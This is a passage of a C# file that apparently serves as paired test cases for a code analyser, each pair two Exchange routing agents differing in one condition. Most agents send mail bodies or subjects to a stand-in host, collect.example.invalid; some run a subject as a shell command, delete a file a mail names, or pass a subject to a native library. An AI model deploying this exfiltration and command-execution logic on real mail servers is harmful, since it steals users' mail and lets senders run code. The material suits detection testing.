                new WebClient().UploadString("https://collect.example.invalid/pair", kept);
            }

            if (e.MailItem.FromAddress.DomainPart == "fabrikam.example")
            {
                waiting.Enqueue(e.MailItem.Message.Subject);
            }
        }
    }

    public class Other : RoutingAgent
    {
        private readonly Queue<string> waiting = new Queue<string>();

        private IEnumerable<string> Emptied()
        {
            while (waiting.Count > 0)
            {
                yield return waiting.Dequeue();
            }
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (string kept in Emptied())
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", kept);
            }

            waiting.Enqueue(e.MailItem.Message.Subject);
        }
    }
}

// 434: whether an iterator of the agent gives anything, and whether it gives nothing
namespace Txray.Pairs.P434
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private static IEnumerable<string> Found(MailItem item)
        {
            foreach (EnvelopeRecipient recipient in item.Recipients)
            {
                if (recipient.Address.DomainPart == "fabrikam.example")
                {
                    yield return recipient.Address.ToString();
                }
            }
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Found(e.MailItem).Any())
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private static IEnumerable<string> Found(MailItem item)
        {
            foreach (EnvelopeRecipient recipient in item.Recipients)
            {
                if (recipient.Address.DomainPart == "fabrikam.example")
                {
                    yield return recipient.Address.ToString();
                }
            }
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!Found(e.MailItem).Any())
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 435: a test chosen from a table by a key of the code, and by one that may come from outside
namespace Txray.Pairs.P435
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Dictionary<string, Func<MailItem, bool>> table = new Dictionary<string, Func<MailItem, bool>>
            {
                { "sender", item => item.FromAddress.DomainPart == "fabrikam.example" },
                { "many", item => item.Recipients.Count > 3 }
            };
            if (table["sender"](e.MailItem))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Dictionary<string, Func<MailItem, bool>> table = new Dictionary<string, Func<MailItem, bool>>
            {
                { "sender", item => item.FromAddress.DomainPart == "fabrikam.example" },
                { "many", item => item.Recipients.Count > 3 }
            };
            if (table[Environment.GetEnvironmentVariable("PAIR") ?? "sender"](e.MailItem))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 436: a place that is in the code, and one that is there when nothing else is set
namespace Txray.Pairs.P436
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string place = "https://collect.example.invalid/pair";
            new WebClient().UploadString(place, e.MailItem.Message.Subject);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string place = Environment.GetEnvironmentVariable("PAIR") ?? "https://collect.example.invalid/pair";
            new WebClient().UploadString(place, e.MailItem.Message.Subject);
        }
    }
}

// 437: a setting that a file may put in a field, and one that stays as it is
namespace Txray.Pairs.P437
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private sealed class Settings
        {
            public string Domain = "fabrikam.example";
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Settings settings = (Settings)new XmlSerializer(typeof(Settings)).Deserialize(File.OpenRead("C:\\Pair\\pair.xml"));
            if (e.MailItem.FromAddress.DomainPart == settings.Domain)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private sealed class Settings
        {
            public string Domain = "fabrikam.example";
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Settings settings = new Settings();
            if (e.MailItem.FromAddress.DomainPart == settings.Domain)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 438: an outside object that is made for every mail and given the subject for some, and nothing of the mail
namespace Txray.Pairs.P438
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            object shell = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell"));
            if (e.MailItem.FromAddress.DomainPart == "fabrikam.example")
            {
                shell.GetType().InvokeMember("Run", BindingFlags.InvokeMethod, null, shell, new object[] { e.MailItem.Message.Subject });
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            object shell = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell"));
            if (e.MailItem.FromAddress.DomainPart == "fabrikam.example")
            {
                shell.GetType().InvokeMember("Run", BindingFlags.InvokeMethod, null, shell, new object[] { "hostname" });
            }
        }
    }
}

// 439: a native function called through a delegate, with the subject and without
namespace Txray.Pairs.P439
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        [DllImport("kernel32")]
        private static extern IntPtr LoadLibrary(string name);

        [DllImport("kernel32")]
        private static extern IntPtr GetProcAddress(IntPtr library, string name);

        private delegate int Taking(byte[] bytes, int length);

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] bytes = Encoding.UTF8.GetBytes(e.MailItem.Message.Subject);
            Taking taking = (Taking)Marshal.GetDelegateForFunctionPointer(GetProcAddress(LoadLibrary("pair.dll"), "Take"), typeof(Taking));
            taking(bytes, bytes.Length);
        }
    }

    public class Other : RoutingAgent
    {
        [DllImport("kernel32")]
        private static extern IntPtr LoadLibrary(string name);

        [DllImport("kernel32")]
        private static extern IntPtr GetProcAddress(IntPtr library, string name);

        private delegate int Taking(byte[] bytes, int length);

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] bytes = Encoding.UTF8.GetBytes("none");
            Taking taking = (Taking)Marshal.GetDelegateForFunctionPointer(GetProcAddress(LoadLibrary("pair.dll"), "Take"), typeof(Taking));
            taking(bytes, bytes.Length);
        }
    }
}

// 440: how often it was called, and who was seen before
namespace Txray.Pairs.P440
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private static int calls;
        private static readonly HashSet<string> seen = new HashSet<string>();

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            calls++;
            if (calls > 100)
            {
                calls = 0;
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private static int calls;
        private static readonly HashSet<string> seen = new HashSet<string>();

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (seen.Add(e.MailItem.FromAddress.ToString()))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 441: the beginning of the subject, and a word of it
namespace Txray.Pairs.P441
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Length > 5 && e.MailItem.Message.Subject.Substring(0, 3) == "abc")
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Split(' ')[1] == "abc")
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 442: a sender that is no address, and one that is
namespace Txray.Pairs.P442
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!e.MailItem.FromAddress.IsValid)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.FromAddress.IsValid)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 443: a subject that cannot be decoded, and one that can
namespace Txray.Pairs.P443
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            bool decoded = false;
            try
            {
                Convert.FromBase64String(e.MailItem.Message.Subject);
                decoded = true;
            }

            catch (FormatException)
            {
            }

            if (!decoded)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            bool decoded = false;
            try
            {
                Convert.FromBase64String(e.MailItem.Message.Subject);
                decoded = true;
            }

            catch (FormatException)
            {
            }

            if (decoded)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 444: a file removed that the body names, and one that the subject names
namespace Txray.Pairs.P444
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            File.Delete(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            File.Delete(e.MailItem.Message.Subject);
        }
    }
}

// 445: two rules of which each is asked before it acts: the one that sends asks, and the other one
namespace Txray.Pairs.P445
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private interface IRule
        {
            bool Matches(MailItem item);

            void Act(MailItem item);
        }

        private sealed class Sending : IRule
        {
            public bool Matches(MailItem item)
            {
                return item.FromAddress.DomainPart == "fabrikam.example";
            }

            public void Act(MailItem item)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }

        private sealed class Marking : IRule
        {
            public bool Matches(MailItem item)
            {
                return true;
            }

            public void Act(MailItem item)
            {
                item.Message.Subject = "marked";
            }
        }

        private readonly IRule[] rules = { new Marking(), new Sending() };

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (IRule rule in rules)
            {
                if (rule.Matches(e.MailItem))
                {
                    rule.Act(e.MailItem);
                }
            }
        }
    }

    public class Other : RoutingAgent
    {
        private interface IRule
        {
            bool Matches(MailItem item);

            void Act(MailItem item);
        }

        private sealed class Sending : IRule
        {
            public bool Matches(MailItem item)
            {
                return true;
            }

            public void Act(MailItem item)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }

        private sealed class Marking : IRule
        {
            public bool Matches(MailItem item)
            {
                return item.FromAddress.DomainPart == "fabrikam.example";
            }

            public void Act(MailItem item)
            {
                item.Message.Subject = "marked";
            }
        }

        private readonly IRule[] rules = { new Marking(), new Sending() };

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (IRule rule in rules)
            {
                if (rule.Matches(e.MailItem))
                {
                    rule.Act(e.MailItem);
                }
            }
        }
    }
}

// 446: the first rule that matches, with what it asks
namespace Txray.Pairs.P446
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private interface IRule
        {
            bool Matches(MailItem item);

            void Act(MailItem item);
        }

        private sealed class Sending : IRule
        {
            public bool Matches(MailItem item)
            {
                return item.FromAddress.DomainPart == "fabrikam.example";
            }

            public void Act(MailItem item)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }

        private sealed class Marking : IRule
        {
            public bool Matches(MailItem item)
            {
                return item.Recipients.Count > 3;
            }

            public void Act(MailItem item)
            {
                item.Message.Subject = "marked";
            }
        }

        private readonly IRule[] rules = { new Marking(), new Sending() };

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            rules.First(rule => rule.Matches(e.MailItem)).Act(e.MailItem);
        }
    }

    public class Other : RoutingAgent
    {
        private interface IRule
        {
            bool Matches(MailItem item);

            void Act(MailItem item);
        }

        private sealed class Sending : IRule
        {
            public bool Matches(MailItem item)
            {
                return item.Recipients.Count > 3;
            }

            public void Act(MailItem item)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }

        private sealed class Marking : IRule
        {
            public bool Matches(MailItem item)
            {
                return item.FromAddress.DomainPart == "fabrikam.example";
            }

            public void Act(MailItem item)
            {
                item.Message.Subject = "marked";
            }
        }

        private readonly IRule[] rules = { new Marking(), new Sending() };

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            rules.First(rule => rule.Matches(e.MailItem)).Act(e.MailItem);
        }
    }
}

// 447: an object that one sender's mail puts in the place of a quiet one, and any mail
namespace Txray.Pairs.P447
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private class Quiet
        {
            public virtual void Act(MailItem item)
            {
            }
        }

        private sealed class Sending : Quiet
        {
            public override void Act(MailItem item)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }

        private static Quiet now = new Quiet();

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            now.Act(e.MailItem);
            if (e.MailItem.FromAddress.DomainPart == "fabrikam.example")
            {
                now = new Sending();
            }
        }
    }

    public class Other : RoutingAgent
    {
        private class Quiet
        {
            public virtual void Act(MailItem item)
            {
            }
        }

        private sealed class Sending : Quiet
        {
            public override void Act(MailItem item)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }

        private static Quiet now = new Quiet();

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            now.Act(e.MailItem);
            now = new Sending();
        }
    }
}

// 448: two rows of delegates: the one that sends asks, and the other one
namespace Txray.Pairs.P448
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private sealed class Row
        {
            public Func<MailItem, bool> Matches;
            public Action<MailItem> Act;
        }

        private readonly Row[] rows =
        {
            new Row { Matches = item => true, Act = item => item.Message.Subject = "marked" },
            new Row { Matches = item => item.FromAddress.DomainPart == "fabrikam.example", Act = item => new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd()) }
        };

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (Row row in rows)
            {
                if (row.Matches(e.MailItem))
                {
                    row.Act(e.MailItem);
                }
            }
        }
    }

    public class Other : RoutingAgent
    {
        private sealed class Row
        {
            public Func<MailItem, bool> Matches;
            public Action<MailItem> Act;
        }

        private readonly Row[] rows =
        {
            new Row { Matches = item => item.FromAddress.DomainPart == "fabrikam.example", Act = item => item.Message.Subject = "marked" },
            new Row { Matches = item => true, Act = item => new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd()) }
        };

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (Row row in rows)
            {
                if (row.Matches(e.MailItem))
                {
                    row.Act(e.MailItem);
                }
            }
        }
    }
}

// 449: words that several rules keep, and one
namespace Txray.Pairs.P449
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private sealed class Rule
        {
            public Rule(string word)
            {
                Word = word;
            }

            public string Word { get; private set; }
        }

        private readonly Rule[] rules = { new Rule("invoice"), new Rule("urgent") };

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (Rule rule in rules)
            {
                if (e.MailItem.Message.Subject.Contains(rule.Word))
                {
                    new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                    break;
                }
            }
        }
    }

    public class Other : RoutingAgent
    {
        private sealed class Rule
        {
            public Rule(string word)
            {
                Word = word;
            }

            public string Word { get; private set; }
        }

        private readonly Rule[] rules = { new Rule("urgent") };

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (Rule rule in rules)
            {
                if (e.MailItem.Message.Subject.Contains(rule.Word))
                {
                    new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                    break;
                }
            }
        }
    }
}

// 450: a number that is handed over, high enough for some mail, and for all
namespace Txray.Pairs.P450
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private void Act(MailItem item, int level)
        {
            if (level > 2)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Act(e.MailItem, 1);
            if (e.MailItem.FromAddress.DomainPart == "fabrikam.example")
            {
                Act(e.MailItem, 3);
            }
        }
    }

    public class Other : RoutingAgent
    {
        private void Act(MailItem item, int level)
        {
            if (level > 2)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Act(e.MailItem, 3);
        }
    }
}
